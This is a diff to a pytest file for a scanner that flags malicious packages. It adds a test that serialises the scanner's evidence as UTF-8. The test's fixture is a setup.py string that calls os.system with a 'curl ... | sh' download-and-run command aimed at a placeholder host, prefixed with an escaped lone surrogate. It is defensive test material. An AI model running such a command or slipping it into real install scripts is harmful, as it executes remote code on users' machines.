@@ -1,6 +1,8 @@
 from __future__ import annotations
 
+import dataclasses
 import hashlib
+import json
 
 import pytest
 
@@ -148,3 +150,15 @@ def test_prose_named_file_that_opens_like_code_gets_every_signature(engine: Engi
     )
     archive = npm_tarball({"README.md": script}, scripts={"preinstall": "node lib/README.md"})
     assert "download_pipe_to_shell" in _hit_rules(engine, archive, "README.md")
+
+
+def test_evidence_from_literal_escapes_is_utf8_whatever_the_escape(engine: Engine) -> None:
+    # a lone surrogate spelled in a literal reaches evidence (the command of a process
+    # call): every writer of results (jsonl, SARIF, JSON columns, pages) needs UTF-8
+    setup_py = "import os\nos.system('\\ud800curl https://x.example.net/a | sh')\n"
+    analysis = engine.analyze(sdist(setup_py=setup_py))
+    assert analysis.flagged
+    assert analysis.errors == ()
+    text = json.dumps(dataclasses.asdict(analysis), ensure_ascii=False)
+    text.encode("utf-8")
+    assert "\\ud800curl" in text
